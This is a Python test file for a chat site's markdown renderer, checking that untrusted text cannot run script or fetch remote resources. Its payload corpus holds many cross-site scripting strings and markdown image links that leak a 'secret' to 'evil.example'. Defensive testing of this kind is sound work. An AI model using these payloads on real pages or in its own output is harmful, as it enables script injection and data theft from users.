"""Nothing that a model or a person writes runs in the page, or makes it fetch from elsewhere."""

import pytest

from chatsite.rendering import StreamRenderer, render
from chatsite.rendering.safety import sanitised
from tests.rendering.conftest import Page, dangers, ended

CORPUS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/leak?q=secret)",
    "![](https://evil.example/leak)",
    "![x][r]\n\n[r]: https://evil.example/leak",
    "[![x](http://evil.example/a)](http://b.c)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example)",
    "[x](/relative)",
    "[x](#id)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    '[x](http://a.b "onmouseover=alert(1)")',
    '[x](http://a.b/"onmouseover="alert(1))',
    'http://a.b/"onmouseover="alert(1)',
    "https://a.b/'><script>alert(1)</script>",
    "www.a.b/<script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```<script>alert(1)</script>\nx\n```",
    '```py" onload="alert(1)\nx\n```',
    "    <script>alert(1)</script>",
    "- <svg onload=alert(1)>",
    "> <iframe src=javascript:alert(1)>",
    "| <script> | b |\n|---|---|\n| <img src=x onerror=y> | [x](javascript:1) |",
    "[^<script>]\n\n[^<script>]: <b onclick=x>",
    "[^x\" onclick=\"y]: z\n\n[^x\" onclick=\"y]",
    "# <style>*{display:none}</style>",
    "<div style='position:fixed'>x</div>",
    "<a id=x name=y href=javascript:alert(1)>x</a>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{</math><img src=x onerror=alert(1)>}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{background:url(http://evil.example)}{x}$",
    r"$\class{x onclick=y}{x}$",
    r'$\color{red" onclick="alert(1)}{x}$',
    r"\(\text{&lt;script&gt;alert(1)&lt;/script&gt;}\)",
    "$<script>$",
    "<i></i> $x$ <i></i>",
    "\ufdd00\ufdd1 $x$",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</script>",
    "<p dir=auto onclick=x>",
)  # fmt: skip


@pytest.mark.parametrize("text", CORPUS)
def test_an_attack_is_only_text(text):
    html = render(text)
    assert dangers(html) == []
    assert Page(html).balanced


@pytest.mark.parametrize("text", CORPUS)
def test_an_attack_is_only_text_at_every_moment_of_a_stream(text):
    renderer = StreamRenderer()
    for character in text + "\n\nend":
        renderer.append(character)
        tail = renderer.flush()
        html = "".join(renderer.settled) + tail
        assert dangers(html) == []
        assert Page(html).balanced


def test_a_link_tells_nobody_where_it_was_found():
    assert 'target="_blank" rel="noopener noreferrer nofollow">x</a>' in render("[x](https://a.b)")


def test_an_image_is_a_link_with_its_text():
    assert render("![a cat](https://x.y/cat.png)") == render("[a cat](https://x.y/cat.png)")
    assert ">https://x.y/cat.png</a>" in render("![](https://x.y/cat.png)")


@pytest.mark.parametrize(
    "address", ["/help", "docs/x.md", "#top", "tel:+12", "file:///c:/x", "javascript:alert(1)"]
)
def test_an_address_that_may_not_be_linked_is_shown_behind_its_text(address):
    assert render(f"[docs]({address})") == f'<p dir="auto">docs (<code dir="ltr">{address}</code>)</p>'


def test_an_address_without_a_text_is_shown_once():
    assert render("[](docs/x.md)") == '<p dir="auto">docs/x.md</p>'
    assert render("[docs/x.md](docs/x.md)") == '<p dir="auto">docs/x.md</p>'


def test_a_picture_in_an_address_shows_the_beginning_of_the_address():
    html = render(f"![dot](data:image/png;base64,{'A' * 5000})")
    assert "<img" not in html
    assert html.startswith('<p dir="auto">dot (<code dir="ltr">data:image/png;base64,AAA')
    assert len(html) < 300


@pytest.mark.parametrize(
    "address", ['http://google.com"%%203E', "http://1.2.3.999", "https://x.y:99999/", "http://[x"]
)
def test_an_address_that_leads_nowhere_is_text(address):
    assert "<a" not in render(f"[x](<{address}>) and {address}")


def test_the_sanitiser_removes_what_the_writer_should_never_write():
    html = sanitised('<p onclick="x" style="y" id="z">a<script>b</script><img src="c"></p>', [])
    assert html == '<p dir="auto">a</p>'


def test_a_piece_without_its_place_is_refused():
    with pytest.raises(ValueError):
        sanitised("<p>x</p>", ["<math></math>"])


@pytest.mark.parametrize("text", ["\ufeff# Title", "# \ufeffTitle", "\ufeff\ufeff# Title"])
def test_a_byte_order_mark_hides_no_heading(text):
    renderer = StreamRenderer()
    for character in text:
        renderer.append(character)
        renderer.flush()
    assert render(text) == ended(renderer, text) == render("# Title")
